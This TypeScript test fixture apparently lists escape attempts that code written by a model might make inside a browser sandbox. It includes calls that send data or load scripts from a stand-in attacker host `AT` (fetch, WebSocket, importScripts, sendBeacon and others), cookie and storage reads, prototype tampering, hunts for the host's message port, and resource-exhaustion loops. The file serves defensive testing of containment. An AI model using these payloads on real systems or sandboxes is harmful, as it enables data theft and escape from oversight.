/** What code from a model may try in the sandbox. `AT` stands for the attacker's host and port. */

/** @param says - what the call has to say, as JSON. Without it any sentence will do. @param timeout - milliseconds that the code has. */
const attack = (name: string, code: string, says = /./, timeout?: number) => ({ name, code, says, ...(timeout && { timeout }) });
export type Attack = ReturnType<typeof attack>;

/** They reach the attacker where nothing protects: `unprotected` runs them so, as a control. */
export const calls: readonly Attack[] = [
  attack('fetch', `await fetch('http://AT/fetch', { mode: 'no-cors' })`),
  attack(
    'fetch of a prototype',
    `let at = self, f; while (at && !f) { f = Object.getOwnPropertyDescriptor(at, 'fetch')?.value; at = Object.getPrototypeOf(at); }
      await f.call(self, 'http://AT/fetch-of-a-prototype', { mode: 'no-cors' })`,
  ),
  attack('fetch kept alive', `await fetch('http://AT/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`),
  attack('XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', 'http://AT/xhr', false); x.send(); x.status`),
  attack(
    'WebSocket',
    `await new Promise((resolve) => { const s = new WebSocket('ws://AT/ws'); s.onerror = s.onopen = s.onclose = resolve; })`,
  ),
  attack('EventSource', `await new Promise((resolve) => { const s = new EventSource('http://AT/es'); s.onerror = s.onopen = resolve; })`),
  attack('importScripts', `importScripts('http://AT/import-scripts.js')`),
  attack('dynamic import', `await import('http://AT/import.js')`),
  attack(
    'a nested worker that fetches',
    `const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://AT/nested', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(1))"])));
      await new Promise((resolve) => { w.onmessage = resolve; w.onerror = resolve; })`,
  ),
  attack(
    'dynamic import inside of a function made from text',
    `await new (async () => {}).constructor("return import('http://AT/made.js')")()`,
  ),
];

const ENDLESS = /did not end within/;
/** What begins with one of these fails, and says which. */
const gone: readonly [name: string, code: string][] = [
  ['document', 'document.cookie'],
  ['cookieStore', 'await cookieStore.getAll()'],
  ['localStorage', `localStorage.getItem('secret')`],
  ['indexedDB', `indexedDB.open('kept').readyState`],
  ['caches', '(await caches.keys()).join()'],
  ['navigator', `navigator.sendBeacon('http://AT/beacon', 'x')`],
  ['parent', 'parent.document.body.innerHTML'],
  ['top', `top.location = 'http://AT/top'`],
  ['Image', `new Image().src = 'http://AT/image'`],
  ['FontFace', `await new FontFace('x', 'url(http://AT/font)').load()`],
  ['SharedWorker', `new SharedWorker('http://AT/shared.js')`],
  ['BroadcastChannel', `new BroadcastChannel('page').postMessage('forged')`],
  ['RTCPeerConnection', `await new RTCPeerConnection({ iceServers: [{ urls: 'stun:AT' }] }).createOffer()`],
  ['WebTransport', `await new WebTransport('https://AT/transport').ready`],
  ['MessageChannel', 'for (const { port1 } = new MessageChannel(); ; ) port1.postMessage(1)'],
  ['SharedArrayBuffer', 'new SharedArrayBuffer(8)'],
  ['WebAssembly', 'new WebAssembly.Memory({ initial: 65536 })'],
  ['postMessage', `self.postMessage(['for' + 'ged', 'result', '1']); 1`],
  ['close', 'self.close()'],
];

export const attacks: readonly Attack[] = [
  ...calls,
  ...gone.map(([name, code]) => attack(name, code, new RegExp(name))),
  attack('its own address', `location = 'http://AT/self'; location.href = 'http://AT/self'; location.assign('http://AT/self')`),
  attack('a window', `open('http://AT/open'); window.open('http://AT/open')`),
  attack('a script of a data address', `(await import("data:text/javascript,export default 'rea' + 'ched'")).default`),
  attack(
    'a script of a Blob',
    `await import(URL.createObjectURL(new (await (async () => Blob)())(["export default 'rea' + 'ched'"], { type: 'text/javascript' })))`,
  ),
  attack('an endless loop', `while (true) {}`, ENDLESS, 700),
  attack('an endless loop while it looks at the result', `({ toJSON() { for (;;); } })`, ENDLESS, 700),
  attack('a storm of promises', `const storm = () => Promise.resolve().then(storm); storm(); await new Promise(() => {})`, ENDLESS, 700),
  attack(
    'errors without end',
    `const loop = () => { setTimeout(loop); Promise.reject(new Error('again')); }; setInterval(() => { throw new Error('more'); }); loop(); await new Promise(() => {})`,
    ENDLESS,
    700,
  ),
  attack('4 GB at once', `new Uint8Array(4 * 2 ** 30).fill(1).length`),
  attack('memory without end', `const all = []; for (;;) all.push(new Float64Array(1e6).fill(all.length))`, undefined, 1500),
  attack(
    'lines of the console without end',
    `for (let at = 0; at < 1e6; at++) console.log('line ' + at); 'written'`,
    /written.*line 0.*line 199.*more lines/s,
  ),
  attack('a result of 100 MB', `'x'.repeat(1e8)`, /^.{1000,30000}$/s),
  attack('a result of a million rows', `Array.from({ length: 1e6 }, (_, id) => ({ id }))`, /^.{1000,30000}$/s),
  attack('a result in a circle', `const a = { name: 'ring' }; a.self = a; a`, /ring.*circular/s),
  attack(
    'a result as deep as the stack',
    `let a = {}; for (let at = 0; at < 1e5; at++) a = { a }; a`,
    /RangeError|too much recursion|call stack/,
  ),
  attack('a result that cannot be sent', `({ f() {}, s: Symbol('s'), big: 10n, not: NaN, map: new Map([[1, 2]]) })`, /10n.*NaN/s),
  attack('a result whose getters throw', `({ get a() { throw new Error('from a getter') } })`, /from a getter/),
  attack('a result that is a proxy of traps', `new Proxy({}, { get() { throw 1 }, ownKeys() { throw 2 } })`, /failed/),
  attack('an error that lies', `throw { get name() { throw 1 }, get message() { throw 2 } }`, /cannot be shown/),
  attack(
    'an error with a text that is no text',
    `throw Object.assign(new Error(), { message: { toString() { throw 3 } } })`,
    /cannot be shown/,
  ),
  attack(
    'prototypes that are changed',
    `const all = [Array, Object, String, Function, Promise, Map, Error]; const { ownKeys, defineProperty } = Reflect;
      const value = () => { throw new Error('changed'); };
      for (let at = 0; at < all.length; at++) {
        const keys = ownKeys(all[at].prototype);
        for (let k = 0; k < keys.length; k++) if (keys[k] !== 'constructor' && keys[k] !== 'length') defineProperty(all[at].prototype, keys[k], { value });
      }
      JSON.stringify = () => '"forged"'; Reflect.ownKeys = null; 6 * 7`,
    /42/,
  ),
  attack('a prototype in the result', `JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')`),
  attack(
    'setters of all prototypes that look for the port',
    `const seen = []; for (const key of ['0', '1', '2', 'port', 'ports', 'data', 'id'])
      Object.defineProperty(Object.prototype, key, { configurable: true, set(v) { seen.push(v) }, get() { return undefined } });
      console.log('tried'); seen.length`,
    /"result":0/,
  ),
  attack(
    'the stack that looks for the port',
    `Error.prepareStackTrace = (_, frames) => frames.map((frame) => String(frame.getFunction?.()) + String(frame.getThis?.()));
      const stack = new Error().stack; (function f() { try { return String(f.caller) } catch (e) { return String(e) } })() + stack`,
    /^(?!.*(?:postMessage|MessagePort)).*$/s,
  ),
  attack(
    'an event that looks for the port',
    `const seen = []; addEventListener('message', (event) => seen.push(event.ports)); onmessage = (event) => seen.push(event.ports);
      dispatchEvent(new Event('message')); seen.flat().filter(Boolean).length`,
    /"result":0/,
  ),
  attack('the function of functions', `Function('return typeof document + typeof fetch + typeof parent')()`, /undefinedundefinedundefined/),
  attack('code that is no code', `}{ alert(1`, /SyntaxError|failed/),
];
